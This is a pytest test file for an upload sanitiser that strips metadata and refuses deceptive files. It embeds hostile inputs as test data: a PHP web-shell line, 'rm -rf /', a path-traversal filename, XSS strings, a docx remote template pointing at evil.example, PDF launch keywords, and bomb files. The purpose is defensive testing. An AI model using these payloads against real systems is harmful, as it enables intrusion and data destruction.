"""What people upload: cleaned of what it says besides, or refused with one sentence and within bounded memory."""

import hashlib
import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pikepdf
import pytest
from PIL import Image

from config.places import BASE_DIR
from demands.vault.files import BadFile, CleanFile, Fault, clean_upload
from tests.vault import samples
from tests.vault.conftest import PEAK
from tests.vault.samples import SECRET, upload


def cleaned(name: str, data: bytes) -> CleanFile:
    return clean_upload(upload(name, data))


def fault(name: str, data: bytes) -> Fault:
    with pytest.raises(BadFile) as refused:
        clean_upload(upload(name, data))
    assert str(refused.value) == refused.value.fault.label
    return refused.value.fault


def everything_in(data: bytes) -> bytes:
    """The bytes of a file, and of its parts where it is a ZIP."""
    if not data.startswith(b"PK"):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as found:
        return b"".join(found.read(name) for name in found.namelist())


@pytest.mark.parametrize(
    ("name", "make", "media_type"),
    [
        ("photo.jpg", samples.telling_jpeg, "image/jpeg"),
        ("scan.PNG", samples.telling_png, "image/png"),
        ("report.pdf", samples.telling_pdf, "application/pdf"),
        ("letter.docx", samples.telling_docx, "application/vnd.openxmlformats-officedocument."
         "wordprocessingml.document"),
        ("table.xlsx", samples.telling_xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("letter.odt", samples.odt, "application/vnd.oasis.opendocument.text"),
    ],
)  # fmt: skip
def test_a_file_loses_what_it_says_of_its_maker(name: str, make: Callable[[], bytes], media_type: str) -> None:
    sent = make()
    clean = cleaned(name, sent)
    assert SECRET.encode() not in everything_in(clean.data)
    assert clean.media_type == media_type
    assert (clean.original, clean.original_sha256) == (sent, hashlib.sha256(sent).hexdigest())
    assert clean.sha256 == hashlib.sha256(clean.data).hexdigest() != clean.original_sha256


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "GIF"])
def test_a_picture_stays_what_it_shows(form: str) -> None:
    with Image.open(io.BytesIO(cleaned(f"a.{form.lower()}", samples.picture(form)).data)) as shown:
        assert (shown.format, shown.size) == (form, (40, 20))
        red, white = shown.convert("RGB").getpixel((5, 10)), shown.convert("RGB").getpixel((35, 10))
    assert red[0] > 200 > 60 > red[1]  # type: ignore[index]
    assert min(white) > 240  # type: ignore[arg-type]


def test_a_picture_is_turned_the_way_it_was_looked_at_and_says_no_place() -> None:
    with Image.open(io.BytesIO(cleaned("a.jpg", samples.telling_jpeg(orientation=6)).data)) as shown:
        assert shown.size == (20, 40)
        assert not shown.getexif()
        assert not {"exif", "xmp", "comment", "icc_profile"} & set(shown.info)
        assert shown.getpixel((10, 5))[0] > 200 > 60 > shown.getpixel((10, 5))[1]  # type: ignore[index]


def test_what_shines_through_still_does() -> None:
    made = io.BytesIO()
    Image.new("RGBA", (4, 4), (255, 0, 0, 100)).save(made, "PNG")
    with Image.open(io.BytesIO(cleaned("a.png", made.getvalue()).data)) as shown:
        assert shown.getpixel((1, 1)) == (255, 0, 0, 100)


def test_a_pdf_keeps_its_pages_and_nothing_that_acts() -> None:
    with pikepdf.open(io.BytesIO(cleaned("a.pdf", samples.telling_pdf()).data)) as pdf:
        assert len(pdf.pages) == 1
        assert "/Info" not in pdf.trailer
        assert not {"/Metadata", "/OpenAction", "/AA", "/AF"} & set(pdf.Root.keys())
        assert not pdf.attachments
        everything = b"".join(one.unparse(resolved=True) for one in pdf.objects)
    for word in (b"JavaScript", b"app.alert", b"Launch", b"calc.exe", b"secret.txt"):
        assert word not in everything


def test_documents_still_open() -> None:
    letter = docx.Document(io.BytesIO(cleaned("a.docx", samples.telling_docx()).data))
    assert letter.paragraphs[0].text == "The letter itself."
    assert len(letter.inline_shapes) == 1
    book = openpyxl.load_workbook(io.BytesIO(cleaned("a.xlsx", samples.telling_xlsx()).data))
    assert book.active["A1"].value == "executions"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.txt", "Plain words, 日本語も"), ("a.csv", "date,number\n2026,3\n"), ("a.txt", "\ufeffwith a mark"),
        ("list.of.names.txt", "a < b and b > c"),
    ],
)  # fmt: skip
def test_text_is_kept_as_it_is(name: str, text: str) -> None:
    assert cleaned(name, text.encode()).data == text.encode()


@pytest.mark.parametrize("encoding", ["utf-16", "shift_jis", "cp1252"])
def test_text_in_other_encodings_is_text(encoding: str) -> None:
    data = ("死刑の執行" if encoding != "cp1252" else "café – déjà").encode(encoding)
    assert cleaned("a.txt", data).data == data


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("Bericht über X.pdf", "Bericht-über-X.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("死刑 に関する.pdf", "死刑-に関する.pdf"),
        ("C:\\Users\\emi\\a.pdf", "a.pdf"),
        ("report v1.2.pdf", "report-v1-2.pdf"),
        ("x" * 300 + ".pdf", "x" * 80 + ".pdf"),
        (".pdf", "file.pdf"), ("a'\"<>;\r\n.pdf", "a.pdf"),
    ],
)  # fmt: skip
def test_a_name_is_made_harmless_and_stays_readable(given: str, kept: str) -> None:
    sent = io.BytesIO(samples.telling_pdf())
    sent.name, sent.size = given, len(sent.getvalue())  # type: ignore[attr-defined]  # Django would clean the name first
    assert clean_upload(sent).name == kept


# Refused, each with one sentence

JPEG, PNG, PDF, ZIP = samples.picture("JPEG"), samples.picture("PNG"), samples.telling_pdf(), samples.telling_docx()


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        # lying types
        ("photo.jpg", PDF, Fault.LYING),
        ("report.pdf", PNG, Fault.LYING),
        ("report.pdf", b"only text", Fault.LYING),
        ("table.xlsx", ZIP, Fault.LYING), ("report", PDF, Fault.LYING), ("a.csv", JPEG, Fault.LYING),
        ("a.pdf", b"  \n%PDF-1.7", Fault.LYING),
        # kinds that are not taken
        ("page.html", b"<!doctype html><p>", Fault.UNKNOWN),
        ("a.txt", b"<script>alert(1)</script>", Fault.UNKNOWN),
        ("a.txt", b"\xef\xbb\xbf <html>", Fault.UNKNOWN),
        ("a.svg", b"<svg onload='alert(1)'/>", Fault.UNKNOWN),
        ("a.jpg", b"<?php system($_GET[0]);", Fault.UNKNOWN), ("a.exe", b"MZ\x90\x00\x03", Fault.UNKNOWN),
        ("a.pdf", b"MZ\x90\x00\x03", Fault.UNKNOWN), ("a.txt", b"binary\x00\x01\x02", Fault.UNKNOWN),
        ("run.txt", b"#!/bin/sh\nrm -rf /", Fault.UNKNOWN),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Fault.OTHER_OFFICE),
        ("table.xlsx", samples.with_part(b"", "a.txt", b"a zip called xlsx"), Fault.UNKNOWN),
        # names
        ("photo.php.jpg", JPEG, Fault.ENDINGS),
        ("report.pdf.exe", PDF, Fault.ENDINGS),
        ("a.html.pdf", PDF, Fault.ENDINGS),
        ("report.pdf.jpg", JPEG, Fault.ENDINGS), ("invoice\u202efdp.pdf", PDF, Fault.ENDINGS),
        ("a.exe .pdf", PDF, Fault.ENDINGS),
        # two kinds in one
        ("a.pdf", PDF + ZIP, Fault.TWO_IN_ONE),
        ("a.jpg", JPEG + ZIP, Fault.TWO_IN_ONE),
        ("a.png", PNG + ZIP, Fault.TWO_IN_ONE),
        ("a.gif", b"GIF89a/*" + PDF, Fault.TWO_IN_ONE),
        ("a.jpg", JPEG + b"<script>alert(1)</script>", Fault.TWO_IN_ONE),
        # damaged, empty, locked
        ("a.jpg", JPEG[:60], Fault.BROKEN),
        ("a.png", PNG[:60], Fault.BROKEN),
        ("a.pdf", b"%PDF-1.7\nnothing", Fault.BROKEN),
        ("a.docx", ZIP[:-200], Fault.UNKNOWN), ("a.txt", b"", Fault.EMPTY), ("a.txt", b" \n ", Fault.EMPTY),
        # documents that do something
        ("a.docx", samples.with_part(ZIP, "word/vbaProject.bin", b"macro"), Fault.ACTS),
        ("a.docx", samples.with_part(ZIP, "word/_rels/settings.xml.rels", b'<Relationships><Relationship Type="http://x/attachedTemplate"'
         b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'), Fault.ACTS),
        ("a.docx", samples.with_part(ZIP, "../outside.xml", b"<x/>"), Fault.BROKEN),
        ("a.docx", samples.nested_zip(), Fault.NESTED),
    ],
)  # fmt: skip
def test_what_is_not_what_it_seems_is_refused(name: str, data: bytes, expected: Fault) -> None:
    sent = io.BytesIO(data)
    sent.name, sent.size = name, len(data)  # type: ignore[attr-defined]
    with pytest.raises(BadFile) as refused:
        clean_upload(sent)
    assert refused.value.fault == expected


def test_a_locked_pdf_is_named() -> None:
    made = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(made, encryption=pikepdf.Encryption(owner="a", user="b"))
    assert fault("a.pdf", made.getvalue()) == Fault.LOCKED


def test_a_moving_picture_is_named() -> None:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "green", "blue")]
    made = io.BytesIO()
    frames[0].save(made, "GIF", save_all=True, append_images=frames[1:])
    assert fault("a.gif", made.getvalue()) == Fault.ANIMATED


def test_a_file_that_is_too_large_is_not_even_read() -> None:
    class Large:
        name, size = "a.pdf", 10**12

        def read(self, size: int) -> bytes:
            raise AssertionError("it was read")

    with pytest.raises(BadFile) as refused:
        clean_upload(Large())
    assert refused.value.fault == Fault.TOO_LARGE


# Bombs: refused in a process that could not hold what they swell to

BOUNDED = f"""
import resource, sys
{PEAK}
import django; django.setup()
from django.core.files.uploadedfile import SimpleUploadedFile
from demands.vault.files import BadFile, clean_upload
data = open(sys.argv[2], "rb").read()
resource.setrlimit(resource.RLIMIT_AS, (1_200_000_000, 1_200_000_000))
try:
    clean_upload(SimpleUploadedFile(sys.argv[1], data))
except BadFile as refused:
    most = max(peak(), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
    sys.stdout.write(f"{{refused.fault}} {{most // 1024}}")
"""


@pytest.mark.parametrize(
    ("name", "make", "expected", "most"),
    [
        ("a.png", samples.png_bomb, "swells", 250),
        ("a.xlsx", samples.xlsx_bomb, "swells", 250),
        ("a.xlsx", samples.lying_xlsx_bomb, "broken", 250),
        ("a.docx", samples.nested_zip, "nested", 250),
        ("a.pdf", samples.pdf_bomb, "swells", 950),
    ],
)
def test_a_bomb_is_refused_within_bounded_memory(
    tmp_path: Path, name: str, make: Callable[[], bytes], expected: str, most: int
) -> None:
    """The most memory that the process, or the one it starts, ever held, in MB."""
    bomb = tmp_path / name
    bomb.write_bytes(make())
    assert bomb.stat().st_size < 2_000_000
    done = subprocess.run(
        [sys.executable, "-c", BOUNDED, name, str(bomb)], cwd=BASE_DIR, capture_output=True, text=True, check=True,
        env={"DJANGO_SETTINGS_MODULE": "tests.settings", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
    )  # fmt: skip
    said, megabytes = done.stdout.split()
    assert said == expected
    assert int(megabytes) < most
